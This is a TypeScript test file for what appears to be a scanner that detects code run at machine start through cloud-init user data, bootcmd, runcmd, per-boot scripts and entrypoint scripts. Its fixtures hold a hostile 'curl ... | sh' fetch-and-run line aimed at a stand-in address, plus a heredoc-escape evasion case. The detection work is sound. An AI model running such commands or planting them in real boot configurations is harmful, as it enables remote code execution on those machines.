import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { launchFiles, startingConfig } from '../../../test/builders/launch-files.ts';
import { findCandidates } from './find-candidates.ts';
import { noConfig } from '../../core/image.ts';
import { assumedStarts } from './find-machine-start.ts';
import { readLaunchPath } from './read-launch-path.ts';

/** The rules that a machine of these files meets when it starts. */
const booted = (files: Readonly<Record<string, string>>): readonly string[] => {
  const held = launchFiles({ '/sbin/init': '', ...files });
  const parts = readLaunchPath(startingConfig({ command: ['/sbin/init'] }), held);
  return findCandidates(parts, held).map(({ rule, severity }) => `${rule.replace('launch-path/', '')} ${severity}`);
};

const fetches = 'curl -s http://192.0.2.1/a | sh';

describe('what cloud-init runs when a machine starts', () => {
  const cases: Readonly<Record<string, readonly [path: string, hostile: string, honest: string]>> = {
    'a script as user data': [
      '/var/lib/cloud/seed/nocloud/user-data',
      `#!/bin/bash\n${fetches}\n`,
      '#!/bin/bash\nhostname web\n',
    ],
    'commands of a cloud-config': [
      '/var/lib/cloud/instance/user-data.txt',
      `#cloud-config\nruncmd:\n  - ${fetches}\n`,
      `#cloud-config\nruncmd:\n  - systemctl start app\n`,
    ],
    'commands of its own settings': [
      '/etc/cloud/cloud.cfg.d/90_x.cfg',
      `#cloud-config\nbootcmd:\n  - [sh, -c, '${fetches}']\n`,
      `#cloud-config\nbootcmd:\n  - [sh, -c, 'echo ${fetches.replace('|', 'and')}']\n`,
    ],
    'what it includes from elsewhere': [
      '/var/lib/cloud/instances/i-1/user-data.txt',
      '#include\nhttp://192.0.2.1/data\n',
      '#cloud-config\npackages: [nginx]\n',
    ],
    'scripts for every start': [
      '/var/lib/cloud/scripts/per-boot/10-x.sh',
      `#!/bin/sh\n${fetches}\n`,
      '#!/bin/sh\necho up\n',
    ],
  };
  for (const [name, [path, hostile, honest]] of Object.entries(cases))
    test(name, () => {
      assert.deepEqual(booted({ [path]: hostile }), ['fetch-and-run high']);
      assert.deepEqual(booted({ [path]: honest }), []);
    });

  test('files that it writes before', () => {
    const config = (script: string): string =>
      `#cloud-config\nwrite_files:\n  - path: /opt/x.sh\n    content: |\n      ${script}\nruncmd:\n  - sh /opt/x.sh\n`;
    const path = '/var/lib/cloud/seed/nocloud/user-data';
    assert.deepEqual(booted({ [path]: config(fetches) }), ['fetch-and-run high']);
    assert.deepEqual(booted({ [path]: config('echo up') }), []);
    // A text that would end the document it is written in, and the shell with it.
    const ends = `#cloud-config\nwrite_files:\n  - path: /opt/x\n    content: |\n      EOF\n      exit 0\nruncmd:\n  - ${fetches}\n`;
    assert.deepEqual(booted({ [path]: ends }), ['fetch-and-run high']);
  });
});

describe('a file system without a config starts what such files are there for', () => {
  const starts = (files: Readonly<Record<string, string>>): readonly string[] =>
    assumedStarts(launchFiles(files)).map(({ named }) => named);

  test('scripts of the usual names, in the usual places', () => {
    assert.deepEqual(
      starts({
        '/entrypoint.sh': 'x',
        '/usr/local/bin/docker-entrypoint.sh': 'x',
        '/app/start.py': 'x',
        '/opt/tool.sh': 'x',
      }),
      ['/entrypoint.sh', '/usr/local/bin/docker-entrypoint.sh', '/app/start.py'],
    );
    assert.deepEqual(starts({ '/srv/server.js': 'x', '/srv/tool.js': 'x', '/opt/server.js': 'x' }), ['/srv/server.js']);
    assert.deepEqual(starts({ '/etc/entrypoint.sh': 'x', '/startled.sh': 'x', '/usr/share/run.sh': 'x' }), []);
  });

  test('an init, where a machine is', () => {
    assert.deepEqual(starts({ '/etc/inittab': 'x' }), ['/sbin/init']);
    assert.deepEqual(starts({ '/etc/systemd/system/a.service': 'x' }), ['/sbin/init']);
    assert.deepEqual(starts({ '/etc/hosts': 'x' }), []);
  });

  test('and what they do is told', () => {
    const files = launchFiles({ '/run.sh': `#!/bin/sh\n${fetches}\n` });
    const parts = readLaunchPath(noConfig, files, assumedStarts(files));
    assert.deepEqual(
      findCandidates(parts, files).map(({ rule, evidence: [proof] }) => [rule, 'path' in proof && proof.path]),
      [['launch-path/fetch-and-run', 'run.sh']],
    );
  });
});
